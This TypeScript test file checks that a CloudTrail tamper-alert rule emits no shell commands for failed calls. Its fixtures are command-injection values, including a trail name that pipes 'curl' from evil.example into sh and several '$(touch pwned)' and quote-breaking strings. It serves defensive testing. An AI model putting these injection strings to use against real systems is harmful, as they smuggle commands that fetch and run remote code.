import { describe, expect, it } from 'vitest';
import { trailLogging } from '../../../functions/trail-logging/rule.js';
import { run } from '../../../shared/runner/run.js';
import { capturingDeps, loadSample, runSample, withDetail } from '../../helpers/samples.js';

// The names: any principal can make a denied call naming a trail like this.
const HOSTILE = ['x;curl${IFS}-s${IFS}evil.example|sh;#', 'arn:aws:cloudtrail:us-east-1:111122223333:trail/$(touch${IFS}pwned)'];
const ARN = 'arn:aws:cloudtrail:us-east-1:111122223333:trail/example-audit-trail';

/** The tamper calls whose failure the rule alerts on, each with the sample that makes it and its name field. */
const CALLS = [
  { call: 'StopLogging', sample: 'alerted.stop-logging-access-denied', field: 'name', check: 'get-trail-status --name' },
  { call: 'DeleteTrail', sample: 'alerted.delete-trail', field: 'name', check: 'get-trail --name' },
  { call: 'PutEventSelectors', sample: 'alerted.put-event-selectors-management-events-off', field: 'trailName', check: 'get-event-selectors --trail-name' },
] as const;

/** The sample as a call that failed with `errorCode`, naming `trail`. */
function failedCall(sample: string, field: string, trail: string, errorCode = 'AccessDenied') {
  const original = loadSample('trail-logging', sample) as { detail: { requestParameters: Record<string, unknown> } };
  return withDetail(original, { errorCode, responseElements: null, requestParameters: { ...original.detail.requestParameters, [field]: trail } });
}

/** Runs an event through the real runner, offline, capturing the notification. */
async function runEvent(event: unknown) {
  const deps = capturingDeps();
  return { record: await run(trailLogging, event, deps), deps };
}

/** Lines that would undo a change: after a failed call there is none to undo. */
const UNDOING = /^(Restart|Restore|If it is gone|Recreate)|start-logging|put-event-selectors|put-insight-selectors|create-trail/;

describe('trail-logging message for a FAILED tamper call', () => {
  describe.each(CALLS)('$call', ({ sample, field }) => {
    it.each(HOSTILE)('gives no command for the hostile name %s, and no restart or restore', async (name) => {
      const { record, deps } = await runEvent(failedCall(sample, field, name));

      expect(record).toMatchObject({ outcome: 'alerted', errorCode: 'AccessDenied', actions: [] });
      const { lines } = trailLogging.message(record);
      expect(lines).toContain('Check: no command: the trail name in the event is not a valid trail name');
      expect(lines.filter((line) => UNDOING.test(line))).toEqual([]);
      expect(lines.filter((line) => line.includes(name) || line.includes('$(') || line.includes('|sh'))).toEqual([]);
      // The mail as sent: the name is in the subject and reason (escaped text), never in a line with a command.
      const text = deps.published[0]?.text ?? '';
      expect(text).toContain('it changed nothing, so there is nothing to restart or restore');
      expect(text.split('\n').filter((line) => line.includes('aws ') && line.includes('evil.example'))).toEqual([]);
      expect(text.split('\n').filter((line) => line.includes('aws ') && line.includes('$('))).toEqual([]);
    });
  });

  it.each(CALLS)('checks a valid trail after a failed $call with the name quoted, and offers nothing to restore', async ({ sample, field, check }) => {
    const { record } = await runEvent(failedCall(sample, field, ARN));

    const { title, lines } = trailLogging.message(record);
    expect(lines).toContain(`Check: aws cloudtrail ${check} '${ARN}' --region 'us-east-1'`);
    expect(lines.filter((line) => UNDOING.test(line))).toEqual([]);
    expect(lines.join('\n')).not.toContain('Until the trail logs again');
    expect(title).toMatch(/^Failed trail tampering: /);
  });

  it('still gives restore commands, quoted, when the same call took effect', async () => {
    const { record } = await runSample(trailLogging, 'alerted.put-event-selectors-management-events-off');

    expect(record.errorCode).toBeNull();
    const { lines } = trailLogging.message(record);
    expect(lines).toContain(`Check: aws cloudtrail get-event-selectors --trail-name '${ARN}' --region 'us-east-1'`);
    expect(lines).toContainEqual(
      expect.stringContaining(
        `put-event-selectors --trail-name '${ARN}' --region 'us-east-1' --event-selectors '[{"ReadWriteType":"All","IncludeManagementEvents":true}]'`,
      ),
    );
  });

  it('gives no command when the Region of the event is not a region code', async () => {
    const { record } = await runEvent(withDetail(failedCall('alerted.delete-trail', 'name', 'example-audit-trail'), { awsRegion: "us-east-1';touch pwned;'" }));

    expect(record.region).toBe("us-east-1';touch pwned;'");
    expect(trailLogging.message(record).lines).toContain('Check: no command: the region in the event is not a valid region');
  });
});
